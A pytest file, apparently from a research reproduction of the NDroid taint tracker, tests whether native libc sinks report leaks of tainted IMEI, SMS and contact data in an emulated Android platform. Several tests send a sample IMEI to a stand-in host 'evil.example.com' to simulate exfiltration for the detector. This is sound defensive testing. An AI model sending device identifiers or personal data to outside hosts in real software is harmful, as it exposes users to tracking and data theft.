"""Table VII — native sink handlers (the starred standard library calls)."""

import pytest

from repro.apps import ALL_SCENARIOS
from repro.apps.base import run_scenario
from repro.bench.harness import make_platform
from repro.common.taint import TAINT_CONTACTS, TAINT_IMEI, TAINT_SMS
from repro.core import NDroid
from repro.framework import AndroidPlatform

DATA = 0x0005_0000


@pytest.fixture
def env():
    platform = AndroidPlatform()
    ndroid = NDroid.attach(platform)
    return platform, ndroid


def call_libc(platform, name, *args):
    return platform.emu.call(platform.libc.address_of(name), args=args)


def ndroid_leaks(platform):
    return platform.leaks.by_detector("ndroid")


class TestNetworkSinks:
    def _socket(self, platform, destination="evil.example.com:80"):
        platform.memory.write_cstring(DATA + 900, destination)
        fd = call_libc(platform, "socket", 2, 1)
        call_libc(platform, "connect", fd, DATA + 900)
        return fd

    def test_send_tainted_reports_leak(self, env):
        platform, ndroid = env
        fd = self._socket(platform)
        platform.memory.write_bytes(DATA, b"356938035643809")
        ndroid.taint_engine.set_memory(DATA, 15, TAINT_IMEI)
        call_libc(platform, "send", fd, DATA, 15, 0)
        leaks = ndroid_leaks(platform)
        assert len(leaks) == 1
        assert leaks[0].sink == "send"
        assert leaks[0].taint == TAINT_IMEI
        assert "evil.example.com" in leaks[0].destination
        assert leaks[0].payload == b"356938035643809"

    def test_send_clean_not_reported(self, env):
        platform, ndroid = env
        fd = self._socket(platform)
        platform.memory.write_bytes(DATA, b"clean data")
        call_libc(platform, "send", fd, DATA, 10, 0)
        assert not ndroid_leaks(platform)
        assert ndroid.syslib_hooks.sink_checks >= 1

    def test_sendto_destination_from_fifth_argument(self, env):
        platform, ndroid = env
        fd = call_libc(platform, "socket", 2, 2)
        platform.memory.write_bytes(DATA, b"x")
        platform.memory.write_cstring(DATA + 64, "udp.example.com:53")
        ndroid.taint_engine.set_memory(DATA, 1, TAINT_SMS)
        call_libc(platform, "sendto", fd, DATA, 1, 0, DATA + 64, 0)
        leaks = ndroid_leaks(platform)
        assert leaks and leaks[0].sink == "sendto"
        assert "udp.example.com" in leaks[0].destination

    def test_write_on_socket(self, env):
        platform, ndroid = env
        fd = self._socket(platform, "srv.example.com:443")
        platform.memory.write_bytes(DATA, b"tainted")
        ndroid.taint_engine.set_memory(DATA, 7, TAINT_CONTACTS)
        call_libc(platform, "write", fd, DATA, 7)
        leaks = ndroid_leaks(platform)
        assert leaks and leaks[0].sink == "write"
        assert "srv.example.com" in leaks[0].destination


class TestFileSinks:
    def _file(self, platform, path="/sdcard/out.bin", mode="w"):
        platform.memory.write_cstring(DATA + 900, path)
        platform.memory.write_cstring(DATA + 960, mode)
        return call_libc(platform, "fopen", DATA + 900, DATA + 960)

    def test_fwrite_tainted(self, env):
        platform, ndroid = env
        fp = self._file(platform)
        platform.memory.write_bytes(DATA, b"secret")
        ndroid.taint_engine.set_memory(DATA, 6, TAINT_SMS)
        call_libc(platform, "fwrite", DATA, 1, 6, fp)
        leaks = ndroid_leaks(platform)
        assert leaks and leaks[0].sink == "fwrite"
        assert leaks[0].destination == "/sdcard/out.bin"

    def test_fputs_tainted(self, env):
        platform, ndroid = env
        fp = self._file(platform)
        platform.memory.write_cstring(DATA, "secret line")
        ndroid.taint_engine.set_memory(DATA, 11, TAINT_SMS)
        call_libc(platform, "fputs", DATA, fp)
        assert any(l.sink == "fputs" for l in ndroid_leaks(platform))

    def test_fputc_tainted_register(self, env):
        platform, ndroid = env
        fp = self._file(platform)
        ndroid.taint_engine.set_register(0, TAINT_IMEI)
        call_libc(platform, "fputc", ord("X"), fp)
        leaks = ndroid_leaks(platform)
        assert leaks and leaks[0].sink == "fputc"
        assert leaks[0].payload == b"X"

    def test_fprintf_formats_taint_precisely(self, env):
        platform, ndroid = env
        fp = self._file(platform, "/sdcard/CONTACTS")
        platform.memory.write_cstring(DATA, "%s %s")
        platform.memory.write_cstring(DATA + 64, "Vincent")
        platform.memory.write_cstring(DATA + 128, "clean")
        ndroid.taint_engine.set_memory(DATA + 64, 8, TAINT_CONTACTS)
        call_libc(platform, "fprintf", fp, DATA, DATA + 64, DATA + 128)
        leaks = ndroid_leaks(platform)
        assert leaks and leaks[0].sink == "fprintf"
        assert leaks[0].taint == TAINT_CONTACTS
        assert b"Vincent clean" in leaks[0].payload

    def test_fprintf_clean_arguments_silent(self, env):
        platform, ndroid = env
        fp = self._file(platform)
        platform.memory.write_cstring(DATA, "n=%d")
        call_libc(platform, "fprintf", fp, DATA, 7)
        assert not ndroid_leaks(platform)


class TestRawSyscallSink:
    def test_svc_write_checked_via_taint_provider(self, env):
        """Even a raw SVC write carries taints into the kernel records."""
        platform, ndroid = env
        from repro.kernel.kernel import O_CREAT
        fd = platform.kernel.sys_open("/sdcard/raw.bin", O_CREAT)
        platform.memory.write_bytes(DATA, b"abc")
        ndroid.taint_engine.set_memory(DATA, 3, TAINT_SMS)
        from repro.cpu.assembler import assemble
        program = assemble(f"""
        main:
            mov r0, #{fd}
            ldr r1, =0x{DATA:x}
            mov r2, #3
            mov r7, #4
            svc #0
            bx lr
        """, base=0x6200_0000)
        platform.emu.load(0x6200_0000, program.code)
        platform.emu.call(program.entry("main"))
        file = platform.kernel.filesystem.lookup("/sdcard/raw.bin")
        assert file.taint_union() == TAINT_SMS


class TestSinkEdgesRecordedOnce:
    """Each sink step leaves one ledger edge: the kernel records a bare
    syscall's edge, NDroid's hook only the stdio sinks' per-source ones."""

    @staticmethod
    def _sink_edges(name):
        platform = make_platform("ndroid", trace=True)
        run_scenario(ALL_SCENARIOS[name](), platform)
        return [edge for edge in platform.observability.ledger
                if edge.mechanism.startswith("sink:")]

    @pytest.mark.parametrize("name, mechanism", [
        ("case4", "sink:send"), ("ephone", "sink:sendto")])
    def test_syscall_sink_has_one_edge(self, name, mechanism):
        edges = self._sink_edges(name)
        assert [edge.mechanism for edge in edges] == [mechanism]
        assert edges[0].location == f"syscall:{mechanism[5:]}"

    def test_fprintf_keeps_one_edge_per_source(self):
        mechanisms = [edge.mechanism
                      for edge in self._sink_edges("poc_case2")]
        assert mechanisms.count("sink:fprintf") == 3
        assert mechanisms.count("sink:write") == 1

    @pytest.mark.parametrize("name", sorted(ALL_SCENARIOS))
    def test_no_scenario_repeats_a_sink_edge(self, name):
        keys = [(edge.tag, edge.mechanism, repr(edge.src.to_dict()),
                 repr(edge.dst.to_dict()), edge.location)
                for edge in self._sink_edges(name)]
        assert len(keys) == len(set(keys))
